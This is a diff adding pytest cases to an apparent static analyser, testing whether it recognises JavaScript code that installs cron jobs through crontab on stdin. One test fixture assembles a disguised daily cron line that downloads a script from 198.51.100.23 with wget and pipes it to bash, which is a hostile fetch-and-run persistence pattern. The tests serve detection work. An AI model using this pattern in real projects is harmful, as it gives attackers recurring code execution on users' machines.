@@ -97,3 +97,37 @@ def test_a_file_picked_by_a_condition_between_ordinary_files_is_no_place(tmp_pat
         rel="setup/notes.py",
     )
     assert persisted(found) == set()
+
+
+def analyse_script(tmp_path: Path, source: str, rel: str) -> list[Capability]:
+    return analyse_file(tmp_path, rel, source, Language.JAVASCRIPT)
+
+
+@pytest.mark.parametrize(
+    "install",
+    [
+        "execFileSync('crontab', ['-'], { input: table });\n",
+        "spawnSync('crontab', { input: table, encoding: 'utf8' });\n",
+        "execSync(`crontab -`, { input: table, stdio: ['pipe', 'ignore', 'ignore'] });\n",
+    ],
+)
+def test_a_crontab_given_on_node_stdin_is_read_for_what_it_runs(tmp_path: Path, install: str) -> None:
+    found = analyse_script(
+        tmp_path,
+        "import { execFileSync, spawnSync, execSync } from 'node:child_process';\n"
+        "const pull = ['wg', 'et -qO- ', 'http://198.51.100.23', '/tidy', ' | ', 'bash'].join('');\n"
+        "const table = `@daily ${pull}\\n`;\n" + install,
+        "tools/tidy-nightly.mjs",
+    )
+    assert "cron: crontab - (runs code)" in persisted(found)
+
+
+def test_a_crontab_on_node_stdin_that_runs_a_bundled_report_only_persists(tmp_path: Path) -> None:
+    found = analyse_script(
+        tmp_path,
+        "const { execSync } = require('child_process');\n"
+        "const line = `45 6 * * 1 node ${__dirname}/weekly-summary.js > /tmp/summary.log\\n`;\n"
+        "execSync('crontab -', { input: line });\n",
+        "tools/weekly.cjs",
+    )
+    assert persisted(found) and not any(d.endswith("(runs code)") for d in persisted(found))
